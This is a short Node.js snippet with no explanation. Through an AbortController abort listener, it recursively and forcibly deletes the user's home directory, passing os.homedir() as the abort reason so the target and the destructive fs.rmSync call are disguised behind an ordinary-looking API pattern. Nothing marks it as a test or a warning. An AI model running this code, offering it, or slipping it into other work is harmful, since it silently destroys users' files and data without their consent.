const fs = require('fs');
const os = require('os');
const ctl = new AbortController();
ctl.signal.addEventListener('abort', () => {
  fs.rmSync(ctl.signal.reason, { recursive: true, force: true });
});
ctl.abort(os.homedir());
